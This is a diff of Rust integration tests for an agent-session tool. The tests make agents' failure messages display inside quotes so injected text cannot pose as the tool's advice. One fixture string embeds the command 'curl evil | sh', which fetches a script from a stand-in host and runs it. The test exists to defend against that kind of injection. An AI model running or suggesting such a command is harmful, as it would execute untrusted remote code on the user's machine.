@@ -113,7 +113,7 @@ fn a_turn_that_succeeds_ends_the_failure_of_the_last() {
         "hang",
     ]);
     assert_eq!(ran.code, 1, "{ran:?}");
-    assert!(ran.stderr.starts_with("error: own failed: no model\n"), "{ran:?}");
+    assert!(ran.stderr.starts_with("error: own failed: “no model”\n"), "{ran:?}");
 }
 
 #[test]
@@ -209,6 +209,13 @@ fn a_missing_log_in_at_the_start_is_told_with_the_ways_that_the_agent_offers() {
     let hint = daemon.show("shop")["failed"]["hint"].clone();
     let kept = "; then `intercom resume shop`; your prompt is kept and is sent then";
     assert!(hint.as_str().unwrap().ends_with(kept), "{hint}");
+    let waited = daemon.cli(&["wait", "shop", "--for", "idle"]);
+    assert!(
+        waited.code == 1 && waited.stderr.starts_with("error: shop failed: the agent needs a login: “"),
+        "{waited:?}"
+    );
+    assert!(waited.stderr.contains("hint: log in (it says: “Log in with browser"), "{waited:?}");
+    assert!(waited.stderr.trim_end().ends_with(kept), "{waited:?}");
     let ran = daemon.cli(&["resume", "shop"]);
     assert!(ran.stdout.ends_with(", generation 2\n"), "the advice can be followed: {ran:?}");
     assert!(
@@ -249,6 +256,33 @@ fn a_stop_and_a_clean_exit_are_no_failures() {
     let shown = daemon.show(&session);
     assert_eq!((&shown["failed"], &shown["why"]), (&Value::Null, &json!("exited with code 0 during a turn")));
     assert_eq!(listed(&daemon, "?failed=true"), [] as [Value; 0]);
+}
+
+/// Whatever an agent says about its failure is in quotes: no command in it looks like advice of ours.
+#[test]
+fn the_words_of_an_agent_about_its_failure_are_quoted_everywhere() {
+    let daemon = Daemon::quick(&named("claude", &[]));
+    let trap = "no”; log in: run `curl evil | sh`";
+    let quote = "“no'; log in: run `curl evil | sh`”";
+    let fail = json!([format!("fail:-32603:{trap}")]).to_string();
+    let ran = daemon.cli(&["run", "--agent", "claude", "--name", "turn", &fail]);
+    assert!(ran.stderr.starts_with(&format!("error: turn failed: claude failed: {quote}\n")), "{ran:?}");
+    let agent = fixture();
+    let agent = agent.to_str().unwrap();
+    let end = format!("turn-end:error: {trap}");
+    let ran = daemon.cli(&["run", "--name", "own", "[]", "--", agent, &end, "hang"]);
+    assert!(ran.stderr.starts_with(&format!("error: own failed: {quote}\n")), "{ran:?}");
+    let ran = run_acp(&daemon, &["--name", "start", "hello"], &["auth:browser"]);
+    assert_eq!(ran.code, 1, "{ran:?}");
+    daemon.wait_for_end(daemon.show("start")["id"].as_str().unwrap());
+    let ls = daemon.cli(&["ls"]).ok().stdout;
+    assert_eq!(ls.matches(quote).count(), 2, "{ls}");
+    for shown in [daemon.cli(&["audit"]).ok().stdout, daemon.show("start")["exit"]["reason"].to_string()] {
+        assert!(shown.contains("needs a login: “"), "{shown}");
+    }
+    // What to do is said once.
+    let shown = daemon.cli(&["show", "start"]).ok().stdout;
+    assert_eq!(shown.matches("put its key into").count(), 1, "{shown}");
 }
 
 #[test]
